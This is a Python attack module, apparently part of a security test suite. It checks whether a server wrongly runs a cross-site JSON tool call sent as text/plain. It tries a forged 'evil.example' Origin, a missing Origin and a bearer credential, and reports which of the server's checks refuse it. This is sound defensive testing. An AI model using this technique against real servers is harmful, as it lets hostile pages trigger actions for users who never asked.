"""Breaks: the rule that a page must ask before it sends JSON to another site.

A page may POST text/plain anywhere, as a form does: the browser doesn't ask the server first
(no preflight). A server that reads any body as JSON, whatever its type, runs the call. The page
never sees the answer. It need not, if the tool does something.

Three checks can stop it: that of the page's Origin, of the token, and of the type. The page
tries three times, each time with more help than a browser would give it, so that each check has
to stop it once.
"""

import json

import httpx2

from attacks.finding import Finding
from attacks.target import SOON, TRUST, Server, bearer, call, said

AGAINST = "server"
CASE = ""


async def attack(server: Server) -> Finding:
    async with server.open(server.alice) as alice:
        await alice.initialize()
        tries: dict[str, dict[str, str]] = {
            "as a page": {"Origin": "https://evil.example"},
            "without Origin": {},
            # As if the credential were a cookie, which browsers add by themselves.
            "with a credential": bearer(server.alice),
        }
        refused: list[str] = []
        for what, headers in tries.items():
            status = await post_text(server, alice.session_id, what, headers)
            if status == 202:
                reply = await alice.reply(what)
                return Finding(True, f"{what}: on Alice's stream: {said(reply)!r}")
            refused.append(f"{what}: {status}")
        return Finding(False, ", ".join(refused))


async def post_text(
    server: Server, session_id: str, request_id: str, headers: dict[str, str]
) -> int:
    message = call(request_id, "echo", message="Delete it all.")
    async with httpx2.AsyncClient(timeout=SOON, verify=TRUST) as client:
        answer = await client.post(
            server.post_url,
            params={"session_id": session_id},
            content=json.dumps(message),
            headers={"Content-Type": "text/plain", **headers},
        )
    return answer.status_code
